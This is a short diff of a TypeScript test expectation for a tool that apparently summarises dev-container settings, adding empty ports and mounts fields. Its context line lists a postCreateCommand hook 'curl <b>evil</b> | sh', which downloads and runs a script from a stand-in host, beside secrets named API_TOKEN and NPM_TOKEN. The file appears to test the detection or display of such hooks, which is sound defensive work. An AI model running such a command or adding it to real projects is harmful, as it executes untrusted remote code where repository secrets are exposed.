@@ -14,6 +14,8 @@ export const wants = {
   services: [],
   remoteUser: null,
   commands: [{ hook: 'postCreateCommand', text: 'curl <b>evil</b> | sh' }],
+  ports: [],
+  mounts: [],
   notices: [],
   repositoryPermission: 'write' as const,
   secretNames: ['API_TOKEN', 'NPM_TOKEN'],
